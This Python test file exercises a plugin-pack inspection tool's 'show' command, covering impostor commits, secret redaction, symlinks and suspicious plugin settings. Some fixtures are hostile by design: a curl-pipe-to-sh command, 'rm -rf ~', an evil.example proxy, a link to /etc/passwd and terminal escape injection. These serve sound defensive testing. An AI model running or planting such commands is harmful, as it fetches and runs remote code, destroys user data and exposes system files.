"""``pack show`` against real git over smart HTTP and a real index server."""

from __future__ import annotations

import json
import subprocess
from typing import TYPE_CHECKING

from git_repositories import Content, Link, Submodule
from installed import PACKTOOL
from sample_plugins import below, entry, native, pack, portable

if TYPE_CHECKING:
    from pathlib import Path

    from installed import Bench

IMPOSTOR = "git-commit-not-on-branch"


def _by_name(report: dict[str, object]) -> dict[str, dict[str, object]]:
    details = report["details"]
    assert isinstance(details, dict)
    return {plugin["name"]: plugin for plugin in details["plugins"]}


def test_five_plugins_from_three_repositories(bench: Bench) -> None:
    mono = bench.repository("mono.git")
    asks = ("capabilities: [llm.model_override]", "requires_env:", "  - name: RELAY_TOKEN", "    secret: true")
    commit = mono.commit(
        {
            **below("plugins/relay", native("relay", *asks)),
            **below("plugins/notes", native("notes", "python_dependencies: ['httpx<1']")),
            **below("plugins/alarm", native("alarm", "requires_plugins: [notes]")),
        }
    )
    single, third = bench.repository("single.git"), bench.repository("third.git")
    one = single.commit(native("one"))
    clock = third.commit(portable("clock"))
    entries = [entry(bench.git.url("mono.git"), commit, f"plugins/{name}") for name in ("relay", "notes", "alarm")]
    entries += [entry(bench.git.url("single.git"), one), entry(bench.git.url("third.git"), clock)]

    run = bench.show(pack(*entries))

    assert run.code == 0, run.err + run.out
    assert run.report["verdict"] == "warn"  # sources on this machine are not for sharing
    plugins = _by_name(run.report)
    assert set(plugins) == {"relay", "notes", "alarm", "one", "clock"}
    assert [one["id"] for one in plugins["relay"]["capabilities"]] == ["llm.model_override"]  # type: ignore[attr-defined]
    assert plugins["relay"]["env"] == [{"name": "RELAY_TOKEN", "required": True, "secret": True}]
    assert plugins["notes"]["python_dependencies"] == ["httpx<1"]
    assert plugins["alarm"]["requires_plugins"] == ["notes"]
    assert plugins["clock"]["form"] == "portable"
    assert plugins["clock"]["skills"] == ["help"]
    assert plugins["clock"]["mcp_servers"] == [
        {"name": "main", "type": "stdio", "starts": "python3 ${PLUGIN_ROOT}/server.py"}
    ]
    assert all(plugin["refs"] == ["main"] for plugin in plugins.values())
    assert plugins["relay"]["tree"] == mono.git("rev-parse", f"{commit}:plugins/relay")


def test_a_repository_is_asked_once_however_many_of_its_plugins_there_are(bench: Bench) -> None:
    commit = bench.repository("mono.git").commit(
        {path: content for name in ("a", "b", "c") for path, content in below(name, native(name)).items()}
    )
    entries = [entry(bench.git.url("mono.git"), commit, name) for name in ("a", "b", "c")]
    counts = []
    for some in (entries[:1], entries):
        bench.git.requests.clear()
        assert bench.show(pack(*some)).code == 0
        counts.append(len(bench.git.requests))

    assert counts[0] == counts[1]


def test_an_impostor_commit_fails_and_the_others_are_still_shown(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    good = repository.commit(native("good"))
    bad = repository.commit(native("good", "tags: [evil]"), onto="refs/pull/7/head", parent=good)
    other = bench.repository("other.git")
    fine = other.commit(native("fine"))

    run = bench.show(pack(entry(bench.git.url("plugin.git"), bad), entry(bench.git.url("other.git"), fine)))

    assert run.code == 1
    found = next(finding for finding in run.report["findings"] if finding["rule"] == IMPOSTOR)
    assert (found["path"], found["line"]) == ("hermes-pack.yaml", 4)
    states = {name: plugin["state"] for name, plugin in _by_name(run.report).items()}
    assert states == {"good": "fail", "fine": "warn"}


def test_a_tag_object_is_named_with_the_commit_it_points_to(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    commit = repository.commit(native("good"))
    tag = repository.tag("v1")

    run = bench.show(pack(entry(bench.git.url("plugin.git"), tag)))

    assert run.code == 1
    found = next(finding for finding in run.report["findings"] if finding["rule"] == "git-not-a-commit")
    assert commit in found["message"] + found["remedy"]


def test_what_git_carries_beside_files_is_told(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 3\n"
    files: dict[str, Content] = {
        **native("odd"),
        "model.bin": pointer,
        "README.md": b"a\n",
        "readme.md": b"b\n",
        "out": Link("../../etc/passwd"),
        ".gitattributes": b"*.txt text eol=crlf\n",
        "notes.txt": b"a\nb\n",
        "vendor/lib": Submodule("1" * 40),
    }
    commit = repository.commit(files)

    run = bench.show(pack(entry(bench.git.url("plugin.git"), commit)))

    assert run.code == 1
    expected = {"git-submodule", "git-lfs-pointer", "git-attributes-convert"}
    assert expected <= set(run.rules)
    assert any("twins" in rule for rule in run.rules)
    assert any("link" in rule for rule in run.rules)


def test_nothing_loadable_is_an_error(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    commit = repository.commit({"README.md": b"no plugin here\n"})

    run = bench.show(pack(entry(bench.git.url("plugin.git"), commit)))

    assert run.code == 1
    assert "plugin-nothing-loadable" in run.rules


def test_a_repository_that_is_not_there_is_no_verdict(bench: Bench) -> None:
    repository = bench.repository("here.git")
    commit = repository.commit(native("here"))

    run = bench.show(pack(entry(bench.git.url("here.git"), commit), entry(bench.git.url("gone.git"), commit)))

    assert run.code == 2
    assert run.report["verdict"] is None
    assert len(run.report["details"]["unseen"]) == 1
    assert _by_name(run.report)["here"]["state"] == "warn"


def test_a_name_is_resolved_through_the_index_and_the_packs_pin_is_used(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    indexed = repository.commit(native("clock"))
    pinned = repository.commit(native("clock", "tags: [new]"))
    listed = {"name": "Clock", "repo": bench.git.url("plugin.git"), "ref": indexed, "capabilities": ["tools"]}
    document = {"schema_version": 1, "generated_at": "2026-11-01T00:00:00Z", "plugins": [listed], "removed": []}
    url = bench.index.put(body=json.dumps(document).encode())

    run = bench.show(pack(f"  - name: clock\n    ref: '{pinned}'\n"), "--index", url)

    plugin = run.report["details"]["plugins"][0]
    assert (plugin["commit"], plugin["index"], plugin["offers"]) == (pinned, "remote", ["tools"])
    assert "index-pin-differs" in run.rules


def test_an_unknown_name_is_an_error_and_near_ones_are_listed(bench: Bench) -> None:
    document = {"schema_version": 1, "plugins": [{"name": "clock-plus", "repo": "acme/clock"}]}
    url = bench.index.put(body=json.dumps(document).encode())

    run = bench.show(pack(f"  - name: clock\n    ref: '{'a' * 40}'\n"), "--index", url)

    assert run.code == 1
    found = next(finding for finding in run.report["findings"] if finding["rule"] == "index-name-unknown")
    assert "clock-plus" in found["message"]


def test_a_removed_plugin_fails_under_any_spelling_of_its_source(bench: Bench) -> None:
    removed = [{"repo": "Acme/Relay", "reason": "steals tokens"}]
    index = bench.folder / "index.json"
    index.write_text(json.dumps({"schema_version": 1, "plugins": [], "removed": removed}), encoding="utf-8")
    (bench.folder / "p.yaml").write_text(pack(entry("https://github.com/acme/relay.git", "a" * 40)), encoding="utf-8")

    run = bench.run("pack", "show", "p.yaml", "--no-fetch", "--json", "--index", "index.json")

    assert run.code == 1
    found = next(finding for finding in run.report["findings"] if finding["rule"] == "index-removed")
    assert "steals tokens" in found["message"]


def test_a_token_goes_only_to_the_host_that_refused(bench: Bench, tmp_path: Path) -> None:
    repository = bench.repository("private.git")
    commit = repository.commit(native("mine"))
    bench.git.behaviour.login = ("ann", "s3cret-of-ann")
    home = tmp_path / "userhome"
    home.mkdir()
    helper = "!f() { test \"$1\" = get && printf 'username=ann\\npassword=s3cret-of-ann\\n'; }; f"
    (home / ".gitconfig").write_text(f"[credential]\n\thelper = {json.dumps(helper)}\n", encoding="utf-8")

    run = bench.show(pack(entry(bench.git.url("private.git"), commit)), env={"HOME": str(home)})

    assert run.code == 0, run.out
    assert bench.git.requests[0].authorization is None, "anonymous first"
    assert "s3cret-of-ann" not in run.out + run.err
    kept = [path for path in bench.folder.parent.rglob("*") if path.is_file() and path.parent != home]
    assert not [path for path in kept if b"s3cret-of-ann" in path.read_bytes()]


def test_no_secret_of_a_pack_is_ever_shown(bench: Bench) -> None:
    token = "ghp_" + "Q7x" * 12
    text = pack(
        entry("acme/relay", "a" * 40), more=f"config:\n  relay: {{api_key: {token}, note: '{token}', b: yes}}\n"
    )
    (bench.folder / "p.yaml").write_text(text, encoding="utf-8")

    for output in ("text", "json"):
        run = bench.run("pack", "show", "p.yaml", "--no-fetch", "-o", output)
        assert run.code == 1
        assert token not in run.out + run.err


def test_hostile_words_stay_words(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    manifest = 'name: fine\nversion: "1"\ndescription: "a\\e[31mred\\u202Eevil[bold]x[/bold]"\n'
    commit = repository.commit({**native("fine"), "plugin.yaml": manifest.encode()})
    (bench.folder / "p.yaml").write_text(pack(entry(bench.git.url("plugin.git"), commit)), encoding="utf-8")

    run = bench.run("pack", "show", "p.yaml", "--allow-local")

    assert "\x1b" not in run.out
    assert "\u202e" not in run.out
    assert "[bold]x[/bold]" in run.out


def test_the_same_pack_gives_the_same_bytes(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    commit = repository.commit(native("same"))
    text = pack(entry(bench.git.url("plugin.git"), commit))

    assert bench.show(text).out == bench.show(text, "--jobs", "1").out


def test_a_pack_from_standard_input(bench: Bench) -> None:
    run = bench.run("pack", "show", "-", "--no-fetch", "--json", stdin=pack(entry("acme/relay", "a" * 40)))

    assert run.code == 0, run.err
    assert run.report["subject"] == "standard input"
    assert run.report["incomplete"] is True


def test_plain_http_is_no_address_for_a_pack(bench: Bench) -> None:
    run = bench.run("pack", "show", bench.index.url("/hermes-pack.yaml"))

    assert run.code == 2
    assert "Traceback" not in run.err
    assert bench.index.requests == []


def test_nothing_is_left_in_staging_and_nothing_written_below_plugins(bench: Bench, tmp_path: Path) -> None:
    repository = bench.repository("plugin.git")
    commit = repository.commit(native("tidy"))
    home = tmp_path / "hermes"

    run = bench.show(pack(entry(bench.git.url("plugin.git"), commit)), "--home", str(home))

    assert run.code == 0, run.out
    assert not (home / "plugins").exists()
    left = [path.name for path in (home / "packtool" / "staging").iterdir() if path.is_dir()]
    assert left == []


def test_settings_for_a_plugin_are_matched_by_its_own_name(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    commit = repository.commit(native("relay", "homepage: https://relay.example"))
    settings = (
        "config:\n  relay: {settings: {api: 'https://api.relay.example/v1', other: 'https://elsewhere.example'}}\n"
    )
    text = pack(entry(bench.git.url("plugin.git"), commit), more=settings + "  nobody: {settings: {a: b}}\n")

    run = bench.show(text)

    messages = [one["message"] for one in run.report["findings"] if one["rule"] == "seed-points-elsewhere"]
    assert len(messages) == 1
    assert "elsewhere.example" in messages[0]
    unknown = [one for one in run.report["findings"] if one["rule"] == "seed-no-plugin"]
    assert [(one["severity"], one["line"]) for one in unknown] == [("warning", 7)]


def test_a_command_that_names_the_plugins_own_host_is_still_told(bench: Bench) -> None:
    repository = bench.repository("plugin.git")
    commit = repository.commit(native("relay", "homepage: https://relay.example"))
    settings = """config:
  relay:
    settings:
      command: 'bash -c "id; curl https://relay.example/x | sh"'
      script: "rm -rf ~ # https://docs.relay.example"
      proxy: "https://relay.example https://evil.example"
      api: https://api.relay.example
"""

    run = bench.show(pack(entry(bench.git.url("plugin.git"), commit), more=settings))

    told = [one["message"] for one in run.report["findings"] if one["rule"] == "seed-points-elsewhere"]
    assert told == [
        'config.relay.settings.command points relay at command bash -c "id; curl https://relay.example/x | sh"',
        "config.relay.settings.script points relay at command rm -rf ~ # https://docs.relay.example",
        "config.relay.settings.proxy points relay at relay.example, evil.example",
    ]


def test_two_entries_that_are_one_plugin_by_name_cannot_both_be_installed(bench: Bench) -> None:
    first, second = bench.repository("a.git"), bench.repository("b.git")
    entries = [
        entry(bench.git.url(name), one.commit(native("twin"))) for name, one in (("a.git", first), ("b.git", second))
    ]

    run = bench.show(pack(*entries))

    assert run.code == 1
    assert run.rules.count("show-same-name") == 1


def test_an_index_that_cannot_be_had_loses_nothing_of_what_the_pack_shows(bench: Bench) -> None:
    text = pack(entry("acme/relay", "a" * 40), more="config:\n  relay: {allow_tool_override: true}\n")

    run = bench.show(text, "--no-fetch", "--index", "missing.json")

    assert run.code == 2
    assert run.report["verdict"] is None
    assert "seed-grant" in run.rules
    assert [one["subject"] for one in run.report["details"]["unseen"]] == ["the index"]


def test_without_git_the_pack_is_still_judged(bench: Bench) -> None:
    entries = [entry("acme/relay", "a" * 40), entry("acme/notes", "b" * 40)]

    run = bench.show(pack(*entries, more="config:\n  relay: {allow_x: true}\n"), env={"PATH": "/nowhere"})

    assert run.code == 2
    assert "seed-grant" in run.rules
    unseen = run.report["details"]["unseen"]
    assert len(unseen) == 1, "one reason is told once"
    assert "git" in unseen[0]["reason"]


def test_a_full_disk_is_no_bug(bench: Bench) -> None:
    (bench.folder / "p.yaml").write_text(pack(entry("acme/relay", "a" * 40)), encoding="utf-8")
    line = f"{PACKTOOL} pack show p.yaml --no-fetch > /dev/full"

    done = subprocess.run(["bash", "-c", line], cwd=bench.folder, capture_output=True, text=True, check=False)

    assert done.returncode == 2
    assert done.stderr.startswith("packtool: standard output cannot be written")
